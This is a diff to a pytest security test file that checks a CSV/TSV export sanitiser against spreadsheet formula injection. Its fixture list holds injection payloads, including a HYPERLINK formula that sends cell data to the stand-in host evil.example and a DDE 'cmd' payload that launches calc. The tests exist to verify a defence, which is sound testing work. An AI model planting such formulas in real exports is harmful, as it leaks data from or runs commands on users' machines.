@@ -1,16 +1,20 @@
 """Security: path traversal (upload names, workspace ids, link parameters), oversized uploads, no data before login."""
 
+import csv
 import io
 import re
 from pathlib import Path
 
 import numpy as np
+import pandas as pd
 import pytest
 from streamlit import config
 from streamlit.testing.v1 import AppTest
 
 from conftest import ROOT, run_page
 from probing import ProbingInputError, load_activations
+from probing.io import csvsafe
+from probing.io.interop import write_projector_tsv
 from probing.store import Workspace
 from probing.synthetic import make_concept_embeddings
 from test_auth import TOKEN
@@ -142,3 +146,36 @@ def test_no_page_renders_anything_before_login(monkeypatch, mode):
                         for e in at.get(kind))
         assert "secret lab data" not in text and saved.fingerprint not in text
         assert [t.value for t in at.title] == ["probing"], page
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|x", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_numbers_stay_numbers():
+    df = pd.DataFrame({"text": FORMULAS, "score": [-0.5, 1.0, -3e-7, 2.0, -1.0, 0.0], "n": np.arange(-3, 3),
+                       "as_text": ["-0.5", "+3e-2", "-.5", "x-y", "=1", "plain"],
+                       "category": pd.Categorical(["=a", "b", "=a", "b", "b", "b"]),
+                       "row_break": ["x\r=1+1", "x\n=1+1", "a", "b", "c", "d"]})
+    df["=evil header"] = "ok"
+    rows = list(csv.reader(io.StringIO(csvsafe.to_csv(df), newline="")))
+    header, body = rows[0], rows[1:]
+    assert header == ["text", "score", "n", "as_text", "category", "row_break", "'=evil header"]
+    assert len(body) == 6 and [r[5] for r in body[:2]] == ["x\r=1+1", "x\n=1+1"], "a line break cannot start a row"
+    assert [r[0] for r in body] == ["'" + f for f in FORMULAS]
+    assert [float(r[1]) for r in body] == df["score"].tolist(), "negative floats are numbers, not formulas"
+    assert [int(r[2]) for r in body] == [-3, -2, -1, 0, 1, 2]
+    assert [r[3] for r in body] == ["-0.5", "+3e-2", "-.5", "x-y", "'=1", "plain"]
+    assert [r[4] for r in body] == ["'=a", "b", "'=a", "b", "b", "b"]
+
+
+def test_projector_metadata_tsv_is_safe_in_a_spreadsheet():
+    aset, _ = make_concept_embeddings(n_samples=6, d=3, n_layers=1, seed=0)
+    aset = aset.with_labels(**{"=cmd": np.array(FORMULAS, dtype=object), "score": np.linspace(-1, 1, 6)})
+    _, metadata = write_projector_tsv(aset)
+    rows = [line.split("\t") for line in metadata.decode().splitlines()]
+    column = rows[0].index("'=cmd")
+    assert [r[column].lstrip("'") for r in rows[1:]] == [" =1+1" if f[0] in "\t\r" else f for f in FORMULAS]
+    assert all(r[column].startswith("'") for r, f in zip(rows[1:], FORMULAS) if f[0] not in "\t\r")
+    score = rows[0].index("score")
+    assert [float(r[score]) for r in rows[1:]] == pytest.approx(np.linspace(-1, 1, 6), abs=1e-6)
